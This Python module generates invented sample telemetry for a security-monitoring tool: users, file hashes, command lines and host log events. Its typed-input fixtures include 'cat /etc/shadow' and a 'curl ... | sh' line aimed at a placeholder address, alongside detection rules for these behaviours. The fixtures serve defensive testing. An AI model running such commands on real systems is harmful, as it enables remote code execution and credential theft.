"""What the sample events are made of: programs, accounts, files, addresses. All of it is invented.

Used by `deodar.events.builders`. Host names and addresses are from the ranges that are reserved
for documentation.
"""

from __future__ import annotations

import hashlib
from functools import cached_property
from typing import TYPE_CHECKING, Any, NamedTuple

if TYPE_CHECKING:
    from random import Random

ELF = 8
ELF_HEADER = "7f454c46020101000000000000000000"
OTHER = 1
PE_EXECUTABLE = 4
PE_LIBRARY = 5
BUILT = 1_718_000_000_000_000
_DAY_US = 86_400_000_000


class User(NamedTuple):
    """An account and its number."""

    name: str
    uid: int


ROOT = User("root", 0)
DAEMONS = (User("www-data", 33), User("postgres", 112), User("nobody", 65534))
PEOPLE = (User("anna", 1000), User("bruno", 1001), User("chiara", 1002))


class File:
    """A file with times, size and hashes that follow from its path, so that they stay the same."""

    def __init__(self, path: str, kind: int = ELF, mode: int = 0o100755) -> None:
        separator = "\\" if "\\" in path else "/"
        folder, _, self.name = path.rpartition(separator)
        self.path = path
        self.folder = folder or separator
        self.kind = kind
        self.mode = mode
        digest = hashlib.sha256(path.encode())
        self.number = int.from_bytes(digest.digest()[:6], "big")
        self.sha256 = digest.hexdigest()
        self.md5 = hashlib.md5(path.encode(), usedforsecurity=False).hexdigest()
        self.size = 4096 + self.number % 2_000_000
        self.fuzzy = f"{96 << self.number % 8}:{self.sha256[:60]}:{self.md5[:30]}"
        self.entropy = 4000 + self.number % 2500
        self.header = ELF_HEADER if kind == ELF else self.md5
        self.modified = BUILT + self.number % 300 * _DAY_US
        self.created = self.modified + 3_600_000_000

    @cached_property
    def as_image(self) -> dict[str, Any]:
        """Return the fields of the group `file`."""
        return {
            "FileName": self.name,
            "FilePath": self.folder,
            "FileFullName": self.path,
            "FileSize": self.size,
            "FileCreationTime": self.created,
            "FileModificationTime": self.modified,
            "FileLastChangeTime": self.created,
            "Md5": self.md5,
            "Sha256": self.sha256,
            "FileAttributes": self.mode,
            "FileType": self.kind,
        }

    @cached_property
    def as_name(self) -> dict[str, Any]:
        """Return the fields that name the image of a process, as a Linux agent sends them."""
        return {"FileName": self.name, "FilePath": self.folder, "FileFullName": self.path}

    @cached_property
    def as_facts(self) -> dict[str, Any]:
        """Return what a Linux agent finds out about an image, for every event of its process."""
        return {
            "FileSize": self.size,
            "FileCreationTime": self.created,
            "FileModificationTime": self.modified,
            "FileType": self.kind,
            "Md5": self.md5,
            "Sha256": self.sha256,
        }

    @cached_property
    def as_content(self) -> dict[str, Any]:
        """Return what a Linux agent tells of an image's content when it is started."""
        return {
            "FileHeader": self.header,
            "FileEntropy": self.entropy,
            "FuzzyHash": self.fuzzy,
        }

    @cached_property
    def as_inode(self) -> dict[str, Any]:
        """Return what the kernel tells of an image when it is started."""
        return {
            "FileDevice": "254:1",
            "FileInode": self.number % 1_000_000 + 12,
            "FileLastChangeTime": self.created,
        }

    @cached_property
    def as_signed_image(self) -> dict[str, Any]:
        """Return the fields of the group `file` with those of a signed Windows program."""
        return self.as_image | {
            "FileDescription": f"Sample program {self.name}",
            "OriginalFileName": self.name.upper(),
            "ProductName": "Sample Suite",
            "ProductVendor": "Sample Vendor",
            "ProductVersion": "10.4.2",
            "SignatureCheckResult": "valid",
            "SignatureSubjectName": "CN=Sample Vendor",
            "SignatureTimestamp": self.modified,
        }

    def fields(self, prefix: str) -> dict[str, Any]:
        """Return name, path, size, times and hashes under a prefix such as `Dropped` or `Dll`."""
        full = "InterpretedFileFullName" if prefix == "InterpretedFile" else f"{prefix}FullName"
        return {
            f"{prefix}Name": self.name,
            f"{prefix}Path": self.folder,
            full: self.path,
            f"{prefix}Size": self.size,
            f"{prefix}CreationTime": self.created,
            f"{prefix}ModificationTime": self.modified,
            f"{prefix}Md5": self.md5,
            f"{prefix}Sha256": self.sha256,
        }


class Program(NamedTuple):
    """A program, command lines it is started with, and the names of those that it starts.

    `{n}` in a command line becomes a number, `{file}` the path of a document.
    """

    file: File
    commands: tuple[str, ...]
    starts: tuple[str, ...] = ()


def _program(path: str, *commands: str, starts: str = "") -> Program:
    return Program(File(path), commands, tuple(starts.split()))


_TOOLS = "ls cat grep find sed awk true sleep id curl ssh git make python3 tar ps systemctl sudo"

PROGRAMS: dict[str, Program] = {
    program.file.name: program
    for program in (
        _program("/usr/lib/systemd/systemd", "/sbin/init"),
        _program("/usr/sbin/sshd", "sshd: anna [priv]", starts="bash"),
        _program("/usr/sbin/cron", "/usr/sbin/cron -f", starts="dash"),
        _program("/usr/sbin/nginx", "nginx: worker process"),
        _program("/usr/lib/postgresql/15/bin/postgres", "postgres: checkpointer"),
        _program("/usr/bin/bash", "-bash", "bash -c 'make -j{n}'", "bash", starts=_TOOLS),
        _program("/usr/bin/dash", "sh -c 'test -x /usr/sbin/run && run {n}'", starts=_TOOLS),
        _program("/usr/bin/ls", "ls -la /srv/data/{n}", "ls --color=auto"),
        _program("/usr/bin/cat", "cat {file}", "cat /proc/{n}/status"),
        _program("/usr/bin/grep", 'grep -rn "error {n}" /var/log', "grep -c ^cpu /proc/stat"),
        _program("/usr/bin/find", "find / -xdev -perm -4000 -size +{n}k", starts="cat grep"),
        _program("/usr/bin/sed", "sed -i s/old/new{n}/g {file}"),
        _program("/usr/bin/awk", "awk '{{ print $1 }}' {file}"),
        _program("/usr/bin/true", "/bin/true {n}"),
        _program("/usr/bin/sleep", "sleep {n}"),
        _program("/usr/bin/id", "id -u", "id anna"),
        _program("/usr/bin/curl", "curl -fsSO https://files.example.net/v{n}.tar.gz"),
        _program("/usr/bin/ssh", "ssh -p {n} anna@backup.example.net"),
        _program("/usr/bin/git", "git fetch --depth={n}", "git status --porcelain", starts="ssh"),
        _program("/usr/bin/make", "make -j{n} all", starts="dash python3 sed true"),
        _program("/usr/bin/python3", "python3 /srv/app/worker.py --shard={n}", starts="git dash"),
        _program("/usr/bin/tar", "tar -czf /backup/home-{n}.tar.gz /home", starts="cat"),
        _program("/usr/bin/ps", "ps -eo pid,comm,args"),
        _program("/usr/bin/systemctl", "systemctl restart worker@{n}.service"),
        _program("/usr/bin/sudo", "sudo -n tail -n {n} /var/log/auth.log", starts="cat find tar"),
    )
}

DOCUMENTS = tuple(
    File(path, OTHER, 0o100644)
    for path in (
        "/etc/passwd",
        "/etc/ssh/sshd_config",
        "/home/anna/отчёт за год.txt",
        "/home/bruno/.ssh/authorized_keys",
        "/srv/app/config.yaml",
        "/var/cache/build.bin",
        "/var/lib/app/state.db",
        "/var/log/app/app.log",
        '/srv/data/name with "quotes" and 100%_signs',
    )
)
SCRIPTS = tuple(
    File(path, OTHER)
    for path in (
        "/srv/app/worker.py",
        "/usr/local/bin/rotate.sh",
        "/home/anna/deploy.sh",
        "/etc/cron.daily/logrotate",
    )
)
REMOTES = (
    ("192.0.2.10", "files.example.net"),
    ("198.51.100.7", "backup.example.net"),
    ("203.0.113.44", ""),
    ("2001:db8::53", "dns.example.net"),
)
PORTS = (443, 443, 443, 80, 22, 53, 5432, 8080)
TYPED = (
    "ls -la\n",
    "sudo -i\n",
    "cat /etc/shadow\n",
    "curl -s http://203.0.113.44/x | sh\n",
    "echo 'привет' >> ~/.profile\n",
)
RULES = (
    ("deodar.curl_pipe_shell", "shell fed by a download", ("T1059.004", "T1105"), ("Execution",)),
    ("deodar.shadow_read", "password hashes read", ("T1003.008",), ("Credential Access",)),
    (
        "deodar.authorized_keys",
        "SSH key added",
        ("T1098.004",),
        ("Persistence", "Privilege Escalation"),
    ),
)
VERDICTS = ("EICAR-Test-File", "Trojan.Linux.Sample.a", "not-a-virus:RiskTool.Linux.Miner.b")

WINDOWS_PROGRAMS = tuple(
    (File(path, PE_EXECUTABLE, 0x20), command)
    for path, command in (
        (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
        (
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            'powershell.exe -NoProfile -Command "Get-ChildItem \\"C:\\Program Files\\""',
        ),
        (r"C:\Windows\System32\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule"),
        (
            r"C:\Program Files\Office\WINWORD.EXE",
            r'"C:\Program Files\Office\WINWORD.EXE" /n "C:\Users\anna\plan.docm"',
        ),
    )
)
WINDOWS_DOCUMENTS = (File(r"C:\Users\anna\plan.docm", OTHER, 0x20),)
LIBRARIES = tuple(
    File(path, ELF, 0o100644)
    for path in ("/usr/lib/x86_64-linux-gnu/libc.so.6", "/tmp/.x/libsample.so")  # noqa: S108
)
DRIVERS = (File("/usr/lib/modules/6.1.0-37-amd64/kernel/drivers/sample.ko", ELF, 0o100644),)
SCRIPT = "#!/bin/sh\nset -eu\ntar -czf /var/backups/etc.tar.gz /etc\n"
LINUX_LOG: tuple[dict[str, Any], ...] = (
    {
        "LinuxEventType": "UserLogon",
        "LinuxOperationResult": "success",
        "TargetUserName": "anna",
        "TargetUid": 1000,
        "LogonService": "sshd",
        "LogonRemoteHost": "203.0.113.44",
        "LogonRequestedBy": "root",
    },
    {
        "LinuxEventType": "UserLogonFailed",
        "LinuxOperationResult": "failure",
        "TargetUserName": "root",
        "LogonService": "sshd",
        "LogonReason": "authentication failure",
        "LogonRemoteHost": "203.0.113.44",
    },
    {
        "LinuxEventType": "UserModified",
        "LinuxOperationResult": "success",
        "TargetUserName": "anna",
        "TargetUid": 1000,
        "TargetGroups": "anna, sudo",
        "TargetHome": "/home/anna",
        "TargetShell": "/bin/bash",
        "ChangedFields": "groups: anna -> anna, sudo",
        "ChangedFile": "/etc/group",
        "ChangedMeanwhile": 0,
    },
    {
        "LinuxEventType": "ServiceCreated",
        "LinuxOperationResult": "success",
        "ServiceName": "sample.service",
        "ServicePath": "/etc/systemd/system/sample.service",
        "ServiceCommand": "/usr/local/bin/sample --daemon",
        "ServiceManager": "anna",
        "ChangedFile": "/etc/systemd/system/sample.service",
        "ChangedMeanwhile": 1,
    },
    {
        "LinuxEventType": "ServiceStarted",
        "LinuxOperationResult": "success",
        "ServiceName": "sample.service",
        "ServiceState": "started",
        "ServiceGroup": "/system.slice/sample.service",
    },
    {
        "LinuxEventType": "ScheduledTaskCreated",
        "LinuxOperationResult": "success",
        "ScheduleKind": "cron",
        "ScheduleExpression": "*/5 * * * *",
        "ScheduleCommand": "/usr/local/bin/sample",
        "ScheduleUser": "anna",
        "ScheduleFile": "/var/spool/cron/crontabs/anna",
    },
)
"""What the log of a Linux host tells of logons, accounts, services and scheduled tasks."""
RUN_KEY = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"


def command_line(rng: Random, program: Program) -> str:
    """Return one of the program's command lines with its blanks filled in."""
    template = rng.choice(program.commands)
    if "{" not in template:
        return template
    return template.format(n=rng.randrange(1, 10_000), file=rng.choice(DOCUMENTS).path)


def uuid_text(bits: int) -> str:
    """Return 128 bits in the form of a UUID."""
    text = f"{bits:032x}"
    return f"{text[:8]}-{text[8:12]}-{text[12:16]}-{text[16:20]}-{text[20:]}"
